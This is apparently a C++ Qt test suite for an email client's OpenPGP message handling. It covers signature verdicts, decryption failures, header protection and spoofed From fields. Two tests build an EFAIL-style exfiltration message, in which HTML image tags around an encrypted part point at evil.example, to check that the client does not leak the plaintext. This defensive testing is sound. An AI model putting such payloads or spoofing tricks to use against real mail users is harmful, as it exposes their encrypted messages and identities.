// SPDX-License-Identifier: GPL-3.0-or-later
// Messages made by gpg, and what is said of them (protocols: RFC 9787, RFC 9788).
#include "core/base/clock.h"
#include "core/incoming/extract.h"
#include "core/incoming/summary.h"
#include "pgp/engine.h"
#include "tests/incoming/mail_maker.h"

#include <QtTest>
#include <algorithm>
#include <functional>
#include <memory>

using namespace sealpost;
using namespace sealpost::incoming;
using sealpost::test::MailMaker;
using sealpost::test::Reader;

namespace {

using Maker = std::function<std::string(const MailMaker&)>;

/// What a case expects. Empty lists and nullopt: not looked at.
struct Case {
    const char* name = "";
    Maker make;
    Protection summary = Protection::unprotected;
    EncryptionState encryption = EncryptionState::none;
    /// The verdicts, in order.
    std::vector<crypto::Verdict> verdicts{};
    std::vector<Warning> warnings{};
    std::optional<std::string> body{};
    /// Words that must stand nowhere in the summary.
    const char* nowhere = nullptr;
    /// Expected of the Subject.
    std::optional<std::string> subject{};
    std::optional<Protection> subject_protection{};
};

using V = crypto::Verdict;
using P = Protection;
using E = EncryptionState;
constexpr const char* alice = MailMaker::alice;
constexpr const char* mallory = MailMaker::mallory;

std::string flip(std::string message, std::string_view marker, std::size_t offset) {
    const std::size_t at = message.find(marker) + marker.size() + offset;
    message[at] = message[at] == 'A' ? 'B' : 'A';
    return message;
}

/// A payload root with the fields of `m.header()` in it.
std::string protected_text(const MailMaker& m, std::string_view hp, std::string_view text,
                           std::string_view subject, std::string_view more_fields = {},
                           std::string_view from = alice) {
    return m.header(subject, from) + std::string(more_fields) +
           MailMaker::text_part(text, "; hp=\"" + std::string(hp) + "\"");
}

std::vector<Case> cases() {
    return {
        {"plain",
         [](const MailMaker& m) { return m.header() + MailMaker::text_part("hello\n"); },
         P::unprotected,
         E::none,
         {},
         {},
         "hello\n"},
        {"signed",
         [](const MailMaker& m) {
             return m.header() + m.signed_part(MailMaker::text_part("hello\n"), alice);
         },
         P::signed_only,
         E::none,
         {V::good},
         {Warning::recipients_not_signed},
         "hello\n"},
        {"signed, CRLF",
         [](const MailMaker& m) {
             return test::crlf(m.header() + m.signed_part(MailMaker::text_part("hello\n"), alice));
         },
         P::signed_only,
         E::none,
         {V::good},
         {},
         "hello\n"},
        {"signed, then changed",
         [](const MailMaker& m) {
             return flip(m.header() + m.signed_part(MailMaker::text_part("hello\n"), alice), "\n\nhell", 0);
         },
         P::unprotected,
         E::none,
         {V::bad}},
        {"signed by a key that is not at hand",
         [](const MailMaker& m) {
             const MailMaker other;
             return m.header() + other.signed_part(MailMaker::text_part("hello\n"), alice);
         },
         P::unprotected,
         E::none,
         {V::unknown_signer},
         {},
         "hello\n"},
        {"signed by somebody else under alice's name",
         [](const MailMaker& m) {
             return m.header() + m.signed_part(MailMaker::text_part("hello\n"), mallory);
         },
         P::unprotected,
         E::none,
         {V::address_mismatch}},
        {"signed by a key that nobody accepted",
         [](const MailMaker& m) {
             return m.header("Lunch", mallory) + m.signed_part(MailMaker::text_part("hello\n"), mallory);
         },
         P::unprotected,
         E::none,
         {V::untrusted}},
        {"replayed with another Date",
         [](const MailMaker& m) {
             return "From: alice@example.org\nTo: bob@example.net\nSubject: x\nDate: " + m.date(-48) + "\n" +
                    m.signed_part(MailMaker::text_part("hello\n"), alice);
         },
         P::unprotected,
         E::none,
         {V::time_mismatch}},
        {"signed without a Date",
         [](const MailMaker& m) {
             return "From: alice@example.org\nTo: bob@example.net\n" +
                    m.signed_part(MailMaker::text_part("hello\n"), alice);
         },
         P::signed_only,
         E::none,
         {V::good},
         {Warning::no_date}},
        {"encrypted only",
         [](const MailMaker& m) {
             return m.header() + MailMaker::encrypted_part(m.encrypt(MailMaker::text_part("secret\n")));
         },
         P::encrypted,
         E::decrypted,
         {},
         {},
         "secret\n",
         nullptr,
         "Lunch",
         P::unprotected},
        {"encrypted and signed in one",
         [](const MailMaker& m) {
             return m.header() +
                    MailMaker::encrypted_part(m.encrypt(MailMaker::text_part("secret\n"), alice));
         },
         P::signed_and_encrypted,
         E::decrypted,
         {V::good},
         {},
         "secret\n",
         nullptr,
         "Lunch",
         P::unprotected},
        {"multipart/signed inside encrypted",
         [](const MailMaker& m) {
             return m.header() + MailMaker::encrypted_part(
                                     m.encrypt(m.signed_part(MailMaker::text_part("secret\n"), alice)));
         },
         P::signed_and_encrypted,
         E::decrypted,
         {V::good},
         {},
         "secret\n"},
        {"encrypted, then signed",
         [](const MailMaker& m) {
             return m.header() +
                    m.signed_part(MailMaker::encrypted_part(m.encrypt(MailMaker::text_part("secret\n"))),
                                  alice);
         },
         P::encrypted,
         E::decrypted,
         {V::good},
         {},
         "secret\n"},
        {"triple wrapped",
         [](const MailMaker& m) {
             const std::string inner = m.signed_part(MailMaker::text_part("secret\n"), alice);
             return m.header() + m.signed_part(MailMaker::encrypted_part(m.encrypt(inner)), mallory);
         },
         P::signed_and_encrypted,
         E::decrypted,
         {V::address_mismatch, V::good},
         {},
         "secret\n"},
        {"encrypted to somebody else",
         [](const MailMaker& m) {
             const MailMaker other;
             return m.header() + MailMaker::encrypted_part(other.encrypt(MailMaker::text_part("secret\n")));
         },
         P::unprotected,
         E::failed,
         {},
         {},
         std::nullopt,
         "secret"},
        {"encrypted, one byte flipped",
         [](const MailMaker& m) {
             const std::string body(3000, 'x');
             return flip(m.header() + MailMaker::encrypted_part(m.encrypt(MailMaker::text_part(body + "\n"))),
                         "BEGIN PGP MESSAGE-----\n\n", 1200);
         },
         P::unprotected,
         E::failed,
         {},
         {},
         std::nullopt,
         "xxxx"},
        {"encrypted, cut short",
         [](const MailMaker& m) {
             std::string message = m.header() + MailMaker::encrypted_part(
                                                    m.encrypt(MailMaker::text_part(std::string(9000, 'x'))));
             return message.substr(0, message.size() * 2 / 3);
         },
         P::unprotected,
         E::failed,
         {},
         {},
         std::nullopt,
         "xxxx"},
        {"nothing in the encrypted part",
         [](const MailMaker& m) { return m.header() + MailMaker::encrypted_part("hello\n"); }, P::unprotected,
         E::failed},

        // Header protection
        {"hp=cipher with HP-Outer",
         [](const MailMaker& m) {
             const std::string outer = "HP-Outer: Subject: [...]\nHP-Outer: From: alice@example.org\n";
             return m.header("[...]") +
                    MailMaker::encrypted_part(
                        m.encrypt(protected_text(m, "cipher", "secret\n", "Real subject", outer), alice));
         },
         P::signed_and_encrypted,
         E::decrypted,
         {V::good},
         {},
         "secret\n",
         nullptr,
         "Real subject",
         P::signed_and_encrypted},
        {"hp=cipher without HP-Outer, changed outside",
         [](const MailMaker& m) {
             return m.header("...") + MailMaker::encrypted_part(
                                          m.encrypt(protected_text(m, "cipher", "secret\n", "Real subject")));
         },
         P::encrypted,
         E::decrypted,
         {},
         {},
         "secret\n",
         nullptr,
         "Real subject",
         P::encrypted},
        {"hp=cipher, unchanged outside is not encrypted",
         [](const MailMaker& m) {
             return m.header("Public") + MailMaker::encrypted_part(m.encrypt(
                                             protected_text(m, "cipher", "secret\n", "Public"), alice));
         },
         P::signed_and_encrypted,
         E::decrypted,
         {V::good},
         {},
         "secret\n",
         nullptr,
         "Public",
         P::signed_only},
        {"hp=cipher whose HP-Outer admits the field outside",
         [](const MailMaker& m) {
             return m.header("[list] Public") +
                    MailMaker::encrypted_part(m.encrypt(
                        protected_text(m, "cipher", "secret\n", "Public", "HP-Outer: Subject: Public\n"),
                        alice));
         },
         P::signed_and_encrypted,
         E::decrypted,
         {V::good},
         {},
         "secret\n",
         nullptr,
         "Public",
         P::signed_only},
        {"hp=clear in a signed message",
         [](const MailMaker& m) {
             return m.header("[list] Signed subject") +
                    m.signed_part(protected_text(m, "clear", "hello\n", "Signed subject"), alice);
         },
         P::signed_only,
         E::none,
         {V::good},
         {},
         "hello\n",
         nullptr,
         "Signed subject",
         P::signed_only},
        {"hp=cipher in a message that is only signed",
         [](const MailMaker& m) {
             return m.header("[...]") + m.signed_part(protected_text(m, "cipher", "hello\n", "Real"), alice);
         },
         P::signed_only,
         E::none,
         {V::good},
         {},
         "hello\n",
         nullptr,
         "Real",
         P::signed_only},
        {"hp=clear inside encryption",
         [](const MailMaker& m) {
             return m.header("[...]") +
                    MailMaker::encrypted_part(m.encrypt(protected_text(m, "clear", "secret\n", "Real")));
         },
         P::encrypted,
         E::decrypted,
         {},
         {},
         "secret\n",
         nullptr,
         "Real",
         P::unprotected},
        {"phony hp in a plain message",
         [](const MailMaker& m) {
             return m.header("Outer") +
                    MailMaker::multipart("mixed", {protected_text(m, "cipher", "hello\n", "Fake")});
         },
         P::unprotected,
         E::none,
         {},
         {},
         "hello\n",
         "Fake",
         "Outer",
         P::unprotected},
        {"hp below the payload root",
         [](const MailMaker& m) {
             return m.header("Outer") + MailMaker::encrypted_part(m.encrypt(MailMaker::multipart(
                                            "mixed", {protected_text(m, "cipher", "secret\n", "Fake")})));
         },
         P::encrypted,
         E::decrypted,
         {},
         {},
         "secret\n",
         "Fake",
         "Outer",
         P::unprotected},
        {"protected-headers=v1",
         [](const MailMaker& m) {
             return m.header("...") + MailMaker::encrypted_part(m.encrypt(
                                          "Subject: Old form\n" +
                                          MailMaker::text_part("secret\n", "; protected-headers=\"v1\"")));
         },
         P::encrypted,
         E::decrypted,
         {},
         {},
         "secret\n",
         nullptr,
         "Old form",
         P::encrypted},
        {"wrapped message/rfc822",
         [](const MailMaker& m) {
             return m.header("...") + MailMaker::encrypted_part(m.encrypt("Content-Type: message/rfc822\n\n" +
                                                                          m.header("Wrapped") +
                                                                          MailMaker::text_part("secret\n")));
         },
         P::encrypted,
         E::decrypted,
         {},
         {Warning::legacy_wrapped},
         "secret\n",
         nullptr,
         "Wrapped",
         P::encrypted},
        {"protected Date that differs is a warning",
         [](const MailMaker& m) {
             const std::string fields =
                 "From: alice@example.org\nTo: bob@example.net\nDate: " + m.date(-48) + "\n";
             return m.header() +
                    m.signed_part(fields + MailMaker::text_part("hello\n", "; hp=\"clear\""), alice);
         },
         P::signed_only,
         E::none,
         {V::good},
         {Warning::date_differs}},
        {"inner From by mallory, signed by mallory, is not alice",
         [](const MailMaker& m) {
             return m.header("x", alice) +
                    m.signed_part(protected_text(m, "clear", "hello\n", "x", {}, mallory), mallory);
         },
         P::unprotected,
         E::none,
         {V::untrusted},
         {Warning::from_mismatch}},
        {"not addressed to the reader",
         [](const MailMaker& m) {
             std::string fields = "From: alice@example.org\nTo: carol@example.org\nDate: " + m.date() + "\n";
             return m.header() +
                    m.signed_part(fields + MailMaker::text_part("hello\n", "; hp=\"clear\""), alice);
         },
         P::signed_only,
         E::none,
         {V::good},
         {Warning::not_addressed_to_you}},

        // Envelopes that do not reach the root
        {"list footer around a signed part",
         [](const MailMaker& m) {
             return m.header() +
                    MailMaker::multipart("mixed", {m.signed_part(MailMaker::text_part("hello\n"), alice),
                                                   MailMaker::text_part("____\nthe list\n")});
         },
         P::unprotected,
         E::none,
         {},
         {Warning::errant_signature, Warning::mailing_list_footer},
         "____\nthe list"},
        {"unsigned text before a signed part",
         [](const MailMaker& m) {
             return m.header() +
                    MailMaker::multipart("mixed", {MailMaker::text_part("pay mallory\n"),
                                                   m.signed_part(MailMaker::text_part("hello\n"), alice)});
         },
         P::unprotected,
         E::none,
         {},
         {Warning::errant_signature},
         "pay mallory"},
        {"a third part in multipart/signed",
         [](const MailMaker& m) {
             std::string part = m.signed_part(MailMaker::text_part("hello\n"), alice);
             const std::size_t end = part.rfind("--\n");
             const std::size_t line = part.rfind("\n--", end) + 1;
             const std::string boundary = part.substr(line, end - line);
             part = part.substr(0, line) + boundary + "\n" + MailMaker::text_part("pay mallory\n") +
                    part.substr(line);
             return m.header() + part;
         },
         P::unprotected,
         E::none,
         {},
         {Warning::errant_signature},
         "pay mallory\n"},
        {"encrypted part beside plain text",
         [](const MailMaker& m) {
             return m.header() +
                    MailMaker::multipart(
                        "mixed", {MailMaker::text_part("open words\n"),
                                  MailMaker::encrypted_part(m.encrypt(MailMaker::text_part("secret\n")))});
         },
         P::unprotected,
         E::none,
         {},
         {Warning::errant_encryption},
         "open words"},
        {"direct exfiltration",
         [](const MailMaker& m) {
             return m.header() +
                    MailMaker::multipart(
                        "mixed", {MailMaker::html_part("<img src=\"http://evil.example/"),
                                  MailMaker::encrypted_part(m.encrypt(MailMaker::text_part("secret\n"))),
                                  MailMaker::html_part("\">")});
         },
         P::unprotected,
         E::none,
         {},
         {Warning::errant_encryption}},
        {"mangled in transit",
         [](const MailMaker& m) {
             return m.header() +
                    MailMaker::multipart("mixed", {MailMaker::text_part(""),
                                                   "Content-Type: application/pgp-encrypted\n\nVersion: 1\n",
                                                   "Content-Type: application/octet-stream\n\n" +
                                                       m.encrypt(MailMaker::text_part("secret\n"))});
         },
         P::unprotected,
         E::none,
         {},
         {Warning::errant_encryption, Warning::mangled_in_transit}},
        {"inline encrypted",
         [](const MailMaker& m) {
             return m.header() + MailMaker::text_part("before\n" + m.encrypt("secret\n") + "after\n");
         },
         P::unprotected,
         E::none,
         {},
         {Warning::errant_encryption},
         "before\nafter\n"},
        {"inline signed",
         [](const MailMaker& m) {
             return m.header() +
                    MailMaker::text_part("before\n" + m.clear_sign("signed words\n", alice) + "after\n");
         },
         P::unprotected,
         E::none,
         {},
         {Warning::errant_signature},
         "before\nafter\n"},
        {"unreadable encryption inside a readable one",
         [](const MailMaker& m) {
             const MailMaker other;
             const std::string inner =
                 MailMaker::encrypted_part(other.encrypt(MailMaker::text_part("secret\n")));
             return m.header() + MailMaker::encrypted_part(m.encrypt(inner));
         },
         P::encrypted,
         E::decrypted,
         {},
         {Warning::errant_encryption},
         std::nullopt,
         "secret"},

        // Identity
        {"two mailboxes in From",
         [](const MailMaker& m) {
             return m.header("x", "alice@example.org, mallory@example.com") +
                    m.signed_part(MailMaker::text_part("hello\n"), alice);
         },
         P::unprotected,
         E::none,
         {V::address_mismatch},
         {Warning::several_from}},
        {"two From fields",
         [](const MailMaker& m) {
             return "From: alice@example.org\n" + m.header("x", mallory) +
                    m.signed_part(MailMaker::text_part("hello\n"), alice);
         },
         P::unprotected,
         E::none,
         {V::address_mismatch},
         {Warning::several_from}},
        {"a second From field that is empty",
         [](const MailMaker& m) {
             return "From:\n" + m.header() + m.signed_part(MailMaker::text_part("hello\n"), alice);
         },
         P::unprotected,
         E::none,
         {V::address_mismatch},
         {Warning::several_from}},
        {"an address as display name",
         [](const MailMaker& m) {
             return m.header("x", "\"alice@example.org\" <mallory@example.com>") +
                    m.signed_part(MailMaker::text_part("hello\n"), alice);
         },
         P::unprotected,
         E::none,
         {V::address_mismatch}},
        {"no From",
         [](const MailMaker& m) {
             return "To: bob@example.net\nDate: " + m.date() + "\n" +
                    m.signed_part(MailMaker::text_part("hello\n"), alice);
         },
         P::unprotected,
         E::none,
         {V::address_mismatch}},
        {"From in another case",
         [](const MailMaker& m) {
             return m.header("x", "Alice@EXAMPLE.org") +
                    m.signed_part(MailMaker::text_part("hello\n"), alice);
         },
         P::signed_only,
         E::none,
         {V::good}},
    };
}

QString text(const std::optional<std::string>& value) {
    return value ? QString::fromStdString(*value) : QStringLiteral("(none)");
}

template <typename Values>
QString names(const Values& values) {
    QStringList list;
    for (const auto value : values) list << QString::fromStdString(std::string(name_of(value)));
    return list.join(", ");
}

} // namespace

class MessageTest final : public QObject {
    Q_OBJECT

  private slots:
    void initTestCase();
    void saysWhatIsTrue_data();
    void saysWhatIsTrue();
    void givesErrantPartsAStatusOfTheirOwn();
    void keepsExfiltrationPartsApart();
    void showsTheOuterFromWhereNoSignatureCoversTheInnerOne();
    void saysLockedWhereNobodyCanBeAsked();
    void leavesErrantLayersClosedOnRequest();
    void stopsWhenAsked();
    void doesNotGuessWithoutAnEngine();
    void bringsUpNothingFromAFlippedByteAnywhere();

  private:
    std::unique_ptr<MailMaker> maker_;
    std::unique_ptr<pgp::Engine> engine_;
    Reader reader_;
};

void MessageTest::initTestCase() {
    pgp::initialize();
    maker_ = std::make_unique<MailMaker>();
    engine_ = std::make_unique<pgp::Engine>(pgp::EngineConfig{maker_->home().path()});
    reader_.openpgp = engine_.get();
    reader_.set_level(alice, maker_->fingerprint(alice), crypto::Level::accepted);
    reader_.now = SystemClock().now();
}

void MessageTest::saysWhatIsTrue_data() {
    QTest::addColumn<int>("index");
    int index = 0;
    for (const Case& one : cases()) QTest::newRow(one.name) << index++;
}

void MessageTest::saysWhatIsTrue() {
    QFETCH(int, index);
    const Case expected = cases()[static_cast<std::size_t>(index)];
    reader_.now = SystemClock().now();
    const MessageSummary summary = reader_.read(expected.make(*maker_));

    QCOMPARE(names(std::vector{summary.summary}), names(std::vector{expected.summary}));
    QCOMPARE(names(std::vector{summary.encryption.state}), names(std::vector{expected.encryption}));
    std::vector<V> verdicts;
    for (const auto& signature : summary.signatures) verdicts.push_back(signature.verdict);
    QCOMPARE(names(verdicts), names(expected.verdicts));
    for (const auto& signature : summary.signatures)
        QCOMPARE(signature.verdict == V::good, signature.reason == crypto::VerdictReason::none);
    for (const Warning warning : expected.warnings)
        QVERIFY2(summary.has(warning), qPrintable("missing: " + names(std::vector{warning})));
    if (expected.body) QCOMPARE(text(summary.body.text).trimmed(), text(expected.body).trimmed());
    if (expected.nowhere != nullptr)
        QVERIFY(!QString::fromStdString(test::everything_shown(summary)).contains(expected.nowhere));
    const ShownField* subject = summary.header("Subject");
    if (expected.subject) {
        QVERIFY(subject != nullptr);
        QCOMPARE(QString::fromStdString(subject->value), text(expected.subject));
    }
    if (expected.subject_protection)
        QCOMPARE(names(std::vector{subject->protection}), names(std::vector{*expected.subject_protection}));
}

void MessageTest::givesErrantPartsAStatusOfTheirOwn() {
    const MailMaker& m = *maker_;
    const std::string message =
        m.header() +
        MailMaker::multipart("mixed",
                             {MailMaker::text_part("open\n"),
                              m.signed_part(MailMaker::text_part("signed words\n"), alice),
                              MailMaker::encrypted_part(m.encrypt(MailMaker::text_part("secret words\n")))});
    const MessageSummary summary = reader_.read(message);
    const auto part = [&](std::string_view path) {
        const auto found = std::find_if(summary.parts.begin(), summary.parts.end(),
                                        [&](const PartSummary& one) { return one.path == path; });
        return found == summary.parts.end() ? PartSummary{} : *found;
    };
    QVERIFY(!part("1.1").errant);
    QCOMPARE(part("1.1").protection, Protection::unprotected);
    QVERIFY(part("1.2").errant);
    QCOMPARE(text(part("1.2").text).trimmed(), "signed words");
    QCOMPARE(part("1.2").protection, Protection::signed_only);
    QCOMPARE(part("1.2").signatures.at(0).verdict, V::good);
    QCOMPARE(text(part("1.3").text).trimmed(), "secret words");
    QCOMPARE(part("1.3").protection, Protection::encrypted);
    QCOMPARE(part("1.3").encryption.value().state, E::decrypted);
}

void MessageTest::keepsExfiltrationPartsApart() {
    const MailMaker& m = *maker_;
    const MessageSummary summary = reader_.read(
        m.header() +
        MailMaker::multipart("mixed", {MailMaker::html_part("<img src=\"http://evil.example/"),
                                       MailMaker::encrypted_part(m.encrypt(MailMaker::text_part("secret\n"))),
                                       MailMaker::html_part("\">")}));
    QVERIFY(summary.body.text.value_or("").find("secret") == std::string::npos);
    int carriers = 0;
    for (const PartSummary& part : summary.parts) {
        if (part.text.value_or("").find("secret") == std::string::npos) continue;
        ++carriers;
        QVERIFY(part.errant);
        QVERIFY(part.text->find("evil") == std::string::npos);
    }
    QCOMPARE(carriers, 1);
}

void MessageTest::showsTheOuterFromWhereNoSignatureCoversTheInnerOne() {
    const MailMaker& m = *maker_;
    const std::string inner = protected_text(m, "cipher", "secret\n", "x", {}, alice);
    const MessageSummary unsigned_one =
        reader_.read(m.header("...", mallory) + MailMaker::encrypted_part(m.encrypt(inner)));
    QVERIFY(unsigned_one.has(Warning::from_mismatch));
    QCOMPARE(QString::fromStdString(unsigned_one.header("From")->value), mallory);
    QCOMPARE(text(unsigned_one.header("From")->inner), alice);
    QCOMPARE(unsigned_one.header("From")->protection, Protection::unprotected);

    const MessageSummary signed_one =
        reader_.read(m.header("...", mallory) + MailMaker::encrypted_part(m.encrypt(inner, alice)));
    QVERIFY(signed_one.has(Warning::from_mismatch));
    QCOMPARE(QString::fromStdString(signed_one.header("From")->value), alice);
    QCOMPARE(signed_one.summary, Protection::signed_and_encrypted);
}

void MessageTest::saysLockedWhereNobodyCanBeAsked() {
    test::TemporaryGnupgHome home;
    const std::string key = home.generate("Locked <locked@example.net>", "a passphrase");
    const std::string armored = home.gpg({"--armor", "--trust-model", "always", "-r", key, "--encrypt"},
                                         MailMaker::text_part("secret\n"))
                                    .out;
    // Generating has left the passphrase with the agent.
    test::run_process({"gpgconf", "--kill", "gpg-agent"}, {.env = {{"GNUPGHOME", home.path().string()}}});
    pgp::Engine engine(pgp::EngineConfig{home.path()});
    Reader reader = reader_;
    reader.openpgp = &engine;
    const MessageSummary summary = reader.read(maker_->header() + MailMaker::encrypted_part(armored));
    QCOMPARE(summary.encryption.state, E::failed);
    QCOMPARE(summary.encryption.reason.value(), crypto::DecryptFailure::locked);
    QCOMPARE(error_for(summary.encryption).code(), ErrorCode::locked);
    QVERIFY(!summary.body.text);
}

void MessageTest::leavesErrantLayersClosedOnRequest() {
    const MailMaker& m = *maker_;
    const std::string message =
        m.header() +
        MailMaker::multipart("mixed", {MailMaker::encrypted_part(m.encrypt(MailMaker::text_part("one\n"))),
                                       MailMaker::encrypted_part(m.encrypt(MailMaker::text_part("two\n")))});
    const OpenedTree closed = reader_.open(message, {ErrantLayers::leave, {}});
    QVERIFY(!closed.find("1.1")->layer->opened);
    QVERIFY(!closed.find("1.1")->layer->encryption);
    const OpenedTree one = reader_.open(message, {ErrantLayers::open_one, "1.2"});
    QVERIFY(!one.find("1.1")->layer->opened);
    QVERIFY(one.find("1.2")->layer->opened);
}

void MessageTest::stopsWhenAsked() {
    const MailMaker& m = *maker_;
    const std::string message =
        m.header() + MailMaker::encrypted_part(m.encrypt(MailMaker::text_part("one\n")));
    std::stop_source stop;
    stop.request_stop();
    NoPrompts nobody;
    try {
        incoming::open(std::make_shared<StringSource>(message), {engine_.get(), nullptr}, {},
                       {nobody, stop.get_token(), {}});
        QFAIL("not cancelled");
    } catch (const Error& error) {
        QCOMPARE(error.code(), ErrorCode::cancelled);
    }
}

void MessageTest::doesNotGuessWithoutAnEngine() {
    const MailMaker& m = *maker_;
    Reader reader = reader_;
    reader.openpgp = nullptr;
    const MessageSummary signed_one =
        reader.read(m.header() + m.signed_part(MailMaker::text_part("hello\n"), alice));
    QCOMPARE(signed_one.summary, Protection::unprotected);
    QCOMPARE(signed_one.signatures.at(0).verdict, V::error);
    const MessageSummary sealed =
        reader.read(m.header() + MailMaker::encrypted_part(m.encrypt(MailMaker::text_part("secret\n"))));
    QCOMPARE(sealed.encryption.state, E::failed);
    QCOMPARE(sealed.encryption.reason.value(), crypto::DecryptFailure::unsupported);
    QVERIFY(!sealed.body.text);
}

void MessageTest::bringsUpNothingFromAFlippedByteAnywhere() {
    const MailMaker& m = *maker_;
    const std::string words = "canarywords";
    const std::string armored = m.encrypt(MailMaker::text_part(words + std::string(400, 'y') + "\n"), alice);
    const std::string message = m.header() + MailMaker::encrypted_part(armored);
    const std::size_t begin = message.find("-----BEGIN PGP MESSAGE-----") + 29;
    const std::size_t end = message.find("-----END PGP MESSAGE-----") - 8;
    for (std::size_t at = begin; at < end; at += 41) {
        if (message[at] == '\n') continue;
        std::string changed = message;
        changed[at] = changed[at] == 'A' ? 'B' : 'A';
        const MessageSummary summary = reader_.read(changed);
        QCOMPARE(summary.summary, Protection::unprotected);
        QVERIFY(test::everything_shown(summary).find(words) == std::string::npos);
    }
}

QTEST_GUILESS_MAIN(MessageTest)
#include "message_test.moc"
